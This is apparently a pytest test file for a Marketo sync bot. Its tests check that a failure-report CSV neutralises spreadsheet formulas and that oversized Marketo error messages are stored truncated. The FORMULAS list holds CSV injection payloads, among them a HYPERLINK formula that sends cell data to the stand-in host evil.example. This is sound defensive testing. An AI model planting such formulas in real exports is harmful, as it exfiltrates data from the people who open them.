"""The failure report is safe to open in a spreadsheet, and outside text is stored bounded."""

from __future__ import annotations

import csv
import io
import json

import pytest

from bot.bounded_text import MAX_EXTERNAL_TEXT
from bot.marketo.models import Envelope, RecordResult
from bot.models import Entity
from bot.safe_csv import neutralise
from bot.store import RunTx, Store
from bot.sync.checkpoint import BatchOutcome
from bot.sync.engine import tally
from bot.sync.ledger import Ledger, LedgerEntry
from bot.sync.report import write_failure_csv

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1", "-2", "@SUM(A1:A9)", "\tx=1", "\r=1"]


def _ledger(store: Store, entries: list[LedgerEntry]) -> Ledger:
    ledger = Ledger(store, "T1", "run1")
    with store.redis.pipeline() as pipe:
        ledger.add_in(RunTx(pipe, store.keys, "T1", "run1", LedgerEntry), entries)
        pipe.execute()
    return ledger


@pytest.mark.parametrize("formula", FORMULAS)
def test_every_column_of_the_failure_csv_is_neutralised(store: Store, formula: str) -> None:
    entry = LedgerEntry(entity="lead", id=formula, email=formula, code=formula, message=formula)
    out = io.StringIO(newline="")
    assert write_failure_csv(_ledger(store, [entry]), out) == 1
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[1] == ["'" + formula] * 4


def test_ordinary_values_are_written_as_they_are(store: Store) -> None:
    entry = LedgerEntry(entity="lead", id="0b1c-42", email="ann@example.com", code="1003",
                        message="Invalid email, a = b")
    out = io.StringIO(newline="")
    write_failure_csv(_ledger(store, [entry, entry.model_copy(update={"email": None})]), out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["id", "email", "code", "message"], ["0b1c-42", "ann@example.com", "1003", "Invalid email, a = b"],
                    ["0b1c-42", "", "1003", "Invalid email, a = b"]]


def test_neutralise_leaves_inner_formula_characters_alone() -> None:
    assert [neutralise(v) for v in ("a=1", "x-1", "ann@example.com", None, 5, -5)] == [
        "a=1", "x-1", "ann@example.com", "", "5", "'-5"]


def test_a_one_megabyte_marketo_reason_is_stored_bounded(store: Store) -> None:
    """Marketo's answer → the per-record result → the ledger in Redis: the reason is cut on the way in."""
    huge = "Invalid email address '" + "a" * 1_000_000 + "'"
    answer = json.dumps({"requestId": "r1", "success": True, "result": [
        {"seq": 0, "status": "skipped", "reasons": [{"code": 1003, "message": huge}]}]})
    results = [RecordResult.model_validate(r) for r in Envelope.model_validate_json(answer).result]
    outcome = BatchOutcome(seq=0, end_link=None, end_offset=1, read=1)
    tally(outcome, Entity.lead, [("id-1", "a" * 1_000_000)], results)
    ledger = _ledger(store, outcome.failures)
    raw = store.redis.lindex(store.keys.skips("T1", "run1"), 0)
    assert len(raw) < 4 * MAX_EXTERNAL_TEXT
    [stored] = list(ledger)
    assert len(stored.message) <= MAX_EXTERNAL_TEXT and stored.message.endswith("…")
    assert len(stored.email or "") <= MAX_EXTERNAL_TEXT and stored.code == "1003"
